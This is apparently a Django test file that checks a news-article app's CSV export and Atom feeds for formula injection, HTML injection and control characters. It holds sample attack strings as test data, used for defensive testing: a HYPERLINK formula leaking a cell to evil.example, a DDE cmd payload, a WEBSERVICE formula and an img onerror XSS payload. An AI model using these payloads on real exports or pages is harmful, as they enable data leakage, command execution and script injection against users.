"""Hostile text on its way out (issue 12): CSV cells never run as formulas, feeds carry text and
always serialize, whatever the titles, bodies or the echoed query hold."""

import csv
import io
import xml.etree.ElementTree as ET

import pytest
from django.urls import reverse

from articles.indexing import index_articles
from articles.models import Article
from articles.services.articles import content_hash, get_or_create_source

pytestmark = pytest.mark.django_db
ATOM = "{http://www.w3.org/2005/Atom}"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def make(*, title: str, body: str, source: str = "الجزيرة", url: str = "") -> Article:
    article = Article.objects.create(
        title=title,
        body=body,
        url=url,
        source=get_or_create_source(name=source),
        content_hash=content_hash(body=body),
    )
    index_articles(pks=[article.pk])
    return article


def test_csv_cells_that_look_like_formulas_are_text(client):
    for n, title in enumerate(FORMULAS):
        make(
            title=title, body=f"خبر رقم {n} عن الاقتصاد", source="=WEBSERVICE(1)" if n else "وكالة"
        )
    response = client.get(reverse("articles:export_csv"))
    raw = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert sorted(row["title"] for row in rows) == sorted("'" + title for title in FORMULAS)
    assert {row["outlet"] for row in rows} == {"'=WEBSERVICE(1)", "وكالة"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_feed_summaries_are_text_not_html(client):
    make(title="عنوان", body="خبر <img src=x onerror=alert(1)> عن الاقتصاد")
    response = client.get(reverse("articles:feed_search"))
    feed = ET.fromstring(response.content)
    summary = feed.find(f"{ATOM}entry/{ATOM}summary")
    assert summary.get("type") == "text"
    assert summary.text == "خبر <img src=x onerror=alert(1)> عن الاقتصاد"
    assert 'type="html"' not in response.content.decode()


@pytest.mark.parametrize("control", ["%00", "%01", "%1B", "%0B", "%EF%BF%BE"])
def test_controls_in_the_query_are_not_a_500(client, control):
    make(title="عنوان", body="خبر عن الاقتصاد")
    response = client.get(reverse("articles:feed_search") + f"?q=الاقتصاد{control}")
    assert response.status_code == 200
    ET.fromstring(response.content)  # well-formed
    for url in ("articles:search", "articles:api_search", "articles:kwic", "articles:export_csv"):
        for name in ("q", "actor", "source", "from", "sort", "page"):
            assert client.get(reverse(url) + f"?{name}={control}").status_code in {200, 400}
    for path in ("/actors/", "/api/actors/suggest/", "/sources/", "/archive/"):
        assert client.get(f"{path}?q={control}").status_code == 200
    for path in (f"/sources/{control}/", f"/feeds/actors/{control}/", f"/actors/x{control}/"):
        assert client.get(path).status_code == 404


def test_controls_saved_in_old_rows_are_stripped_from_every_feed_field(client):
    # (no NUL: PostgreSQL could not hold it; other controls it stores)
    make(title="عنوان\x1b خبر\x0b", body="خبر\x01 عن الاقتصاد", source="وكالة\x08")
    response = client.get(reverse("articles:feed_search") + "?q=الاقتصاد")
    assert response.status_code == 200
    entry = ET.fromstring(response.content).find(f"{ATOM}entry")
    assert entry.find(f"{ATOM}title").text == "عنوان خبر"
    assert entry.find(f"{ATOM}summary").text == "خبر عن الاقتصاد"
    assert entry.find(f"{ATOM}author/{ATOM}name").text == "وكالة"
